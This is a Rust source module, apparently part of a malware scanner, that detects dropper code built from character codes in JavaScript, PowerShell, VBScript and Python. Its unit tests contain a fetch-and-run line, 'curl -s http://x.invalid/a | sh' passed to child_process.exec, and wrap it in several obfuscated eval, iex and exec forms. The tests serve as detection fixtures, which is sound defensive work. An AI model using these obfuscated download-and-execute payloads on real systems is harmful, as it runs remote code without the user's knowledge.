//! Code built from character codes, in any of the forms droppers use:
//! `String.fromCharCode(118, 97, ...)`, `String.fromCharCode.apply(null, [...])`, an array mapped
//! through `fromCharCode` (with or without an offset), `[char]105+[char]101...` and
//! `[char[]]@(...)` (PowerShell), `Chr(67) & Chr(114)...` (VBScript), `chr(c) for c in [...]`
//! (Python).

/// Fewest character codes that make a string built from codes.
const MIN_CHAR_CODES: usize = 24;
/// How far from a marker an array of codes is looked for (before or after it; an array longer
/// than that is still seen by its part inside).
const ARRAY_REACH: usize = 16 * 1024;
/// Largest shift tried when the codes are offset (`x - 7`) to hide the text.
const MAX_SHIFT: i32 = 64;

/// The markers of character-code conversion, lower case (searched ignoring case).
pub const MARKERS: &[&str] = &[
    "fromcharcode",
    "fromcodepoint",
    "[char]",
    "chr(",
    "chrw(",
    "[char[]]",
];
/// Markers counted per line (`[char]105+[char]101...`, `Chr(67) & Chr(114)...`); the others
/// convert an array, decoded below.
const PER_LINE: [bool; 6] = [false, false, true, true, true, false];

/// Where text is built from character codes, given the markers found in it (offset, index in
/// [`MARKERS`]), in order.
pub fn find(text: &[u8], markers: &[(usize, usize)]) -> Option<usize> {
    if markers.is_empty() {
        return None;
    }
    let (mut scanned, mut line) = (0, 0); // how far newlines are counted, and how many
    let mut counts = [(usize::MAX, 0usize, 0usize); MARKERS.len()]; // line, count, first offset
    for &(offset, marker) in markers.iter().filter(|(_, marker)| PER_LINE[*marker]) {
        line += text[scanned..offset]
            .iter()
            .filter(|&&b| b == b'\n')
            .count();
        scanned = offset;
        let count = &mut counts[marker];
        if count.0 != line {
            *count = (line, 0, offset);
        }
        count.1 += 1;
        if count.1 >= MIN_CHAR_CODES {
            return Some(count.2);
        }
    }
    // Arrays only near a marker: a large bundle may convert codes in one place and hold a
    // numeric table (a decoder's lookup table, say) far from it.
    let offsets: Vec<usize> = markers.iter().map(|&(at, _)| at).collect();
    crate::encoded::windows(text.len(), &offsets, ARRAY_REACH).find_map(|(lo, hi)| {
        numeric_arrays(&text[lo..hi]).find_map(|(at, codes)| is_text(&codes).then_some(lo + at))
    })
}

/// Runs of at least [`MIN_CHAR_CODES`] integers separated by commas (decimal or `0x` hex):
/// (offset, values). One pass; values above 0xFFFF end a run.
fn numeric_arrays(text: &[u8]) -> impl Iterator<Item = (usize, Vec<u32>)> + '_ {
    let mut at = 0;
    std::iter::from_fn(move || {
        while at < text.len() {
            let start = at + text[at..].iter().position(u8::is_ascii_digit)?;
            // A number inside an identifier (`a1`) does not start a run.
            let in_word =
                start > 0 && (text[start - 1].is_ascii_alphanumeric() || text[start - 1] == b'_');
            let mut values = Vec::new();
            let mut pos = start;
            if !in_word {
                while let Some((value, end)) = number(text, pos) {
                    values.push(value);
                    let mut next = end;
                    while next < text.len() && text[next].is_ascii_whitespace() {
                        next += 1;
                    }
                    if text.get(next) != Some(&b',') {
                        pos = end;
                        break;
                    }
                    next += 1;
                    while next < text.len() && text[next].is_ascii_whitespace() {
                        next += 1;
                    }
                    pos = next;
                }
            }
            at = pos.max(start + 1);
            if values.len() >= MIN_CHAR_CODES {
                return Some((start, values));
            }
        }
        None
    })
}

/// The integer at `at` (decimal, or hex after `0x`) and where it ends.
fn number(text: &[u8], at: usize) -> Option<(u32, usize)> {
    let hex = text
        .get(at..at + 2)
        .is_some_and(|p| p.eq_ignore_ascii_case(b"0x"));
    let (radix, digits_at) = if hex { (16, at + 2) } else { (10, at) };
    let digits = text[digits_at..]
        .iter()
        .take_while(|b| (**b as char).is_digit(radix))
        .count();
    if digits == 0 || digits > 6 {
        return None;
    }
    let end = digits_at + digits;
    if text
        .get(end)
        .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'.')
    {
        return None;
    }
    let value =
        u32::from_str_radix(std::str::from_utf8(&text[digits_at..end]).ok()?, radix).ok()?;
    (value <= 0xFFFF).then_some((value, end))
}

/// Whether the values, shifted by one offset for all (0 first), spell text: all printable,
/// mostly letters, digits and spaces with many lower-case letters, as code and command lines
/// are; not in order, and repeating characters as text does. Lookup tables, index lists,
/// permutations (a JPEG zigzag table) and binary data are not.
fn is_text(values: &[u32]) -> bool {
    let rising = values.windows(2).filter(|pair| pair[0] <= pair[1]).count();
    if rising * 10 >= values.len() * 9 || rising * 10 <= values.len() {
        return false;
    }
    // One bit per possible value, on the heap: plugins run on a small stack.
    let mut seen = vec![0u64; 0x10000 / 64];
    let distinct = values
        .iter()
        .filter(|&&v| {
            let (word, bit) = (v as usize / 64, 1u64 << (v % 64));
            let new = seen[word] & bit == 0;
            seen[word] |= bit;
            new
        })
        .count();
    if distinct * 100 > values.len() * 75 {
        return false;
    }
    let (min, max) = values
        .iter()
        .fold((u32::MAX, 0), |(lo, hi), &v| (lo.min(v), hi.max(v)));
    let (min, max) = (min as i32, max as i32);
    // Shifts that bring every value into the printable range (tab to `~`).
    let lowest = (max - 126).max(-MAX_SHIFT);
    let highest = (min - 9).min(MAX_SHIFT);
    let mut shifts: Vec<i32> = (lowest..=highest).collect();
    shifts.sort_by_key(|s| s.abs());
    shifts.into_iter().any(|shift| {
        let (mut wordy, mut lower) = (0, 0);
        for &v in values {
            let c = (v as i32 - shift) as u8;
            if !(c.is_ascii_graphic() || matches!(c, b' ' | b'\t' | b'\n' | b'\r')) {
                return false;
            }
            wordy += usize::from(c.is_ascii_alphanumeric() || c == b' ');
            lower += usize::from(c.is_ascii_lowercase());
        }
        wordy * 100 >= values.len() * 55 && lower * 100 >= values.len() * 20
    })
}

#[cfg(test)]
mod tests {
    fn find(text: &[u8]) -> Option<usize> {
        super::find(text, &crate::triggers::Triggers::find(text).char_markers)
    }

    fn codes(text: &str, shift: i32, sep: &str) -> String {
        text.bytes()
            .map(|b| (b as i32 + shift).to_string())
            .collect::<Vec<_>>()
            .join(sep)
    }

    const CODE: &str = "require('child_process').exec('curl -s http://x.invalid/a | sh')";

    #[test]
    fn a_code_array_far_from_any_conversion_is_not_text_from_codes() {
        let array = format!("var t = [{}];\n", codes(CODE, 0, ","));
        let near = format!("{array}eval(String.fromCharCode.apply(null, t));\n");
        assert!(find(near.as_bytes()).is_some());
        let far = format!(
            "{array}{}eval(String.fromCharCode.apply(null, t));\n",
            "// filler\n".repeat(4000)
        );
        assert_eq!(find(far.as_bytes()), None);
    }

    #[test]
    fn every_form_of_char_codes_is_found() {
        let forms = [
            format!(
                "eval(String.fromCharCode.apply(null, [{}]))",
                codes(CODE, 0, ",")
            ),
            format!(
                "var c = [{}];\neval(String.fromCharCode(...c))",
                codes(CODE, 0, ", ")
            ),
            format!(
                "iex ([string]::join('', [char[]]@({})))",
                codes(CODE, 0, ",")
            ),
            format!("exec(''.join(chr(c) for c in [{}]))", codes(CODE, 0, ",")),
            format!(
                "eval(String.fromCharCode.apply(null,[{}].map(function(x){{return x-7}})))",
                codes(CODE, 7, ",")
            ),
        ];
        for form in &forms {
            assert!(find(form.as_bytes()).is_some(), "{form}");
        }
    }

    #[test]
    fn tables_and_numbers_without_a_conversion_are_not() {
        // A CRC-like table next to fromCharCode: not text.
        let table: Vec<String> = (0..64u64)
            .map(|i| (i * 2654435761 % 65536).to_string())
            .collect();
        let js = format!(
            "var t = [{}]; s = String.fromCharCode(t[0]);",
            table.join(",")
        );
        assert_eq!(find(js.as_bytes()), None);
        // Text-like codes but no conversion anywhere.
        let plain = format!("var data = [{}];", codes(CODE, 0, ","));
        assert_eq!(find(plain.as_bytes()), None);
        // A permutation (JPEG's zigzag order, which shifted by 56 looks like letters) is no text.
        let zigzag = "0,1,8,16,9,2,3,10,17,24,32,25,18,11,4,5,12,19,26,33,40,48,41,34,27,20,13,6,7,14,21,28,35,42,49,56,57,50,43,36,29,22,15,23,30,37,44,51,58,59,52,45,38,31,39,46,53,60,61,54,47,55,62,63";
        let js = format!("var z = new Int32Array([{zigzag}]); s = String.fromCharCode(1);");
        assert_eq!(find(js.as_bytes()), None);
        // Small increasing numbers (an index list) spell no text.
        let index: Vec<String> = (0..40).map(|i| i.to_string()).collect();
        let py = format!("order = [{}]\nname = chr(65)", index.join(", "));
        assert_eq!(find(py.as_bytes()), None);
    }
}
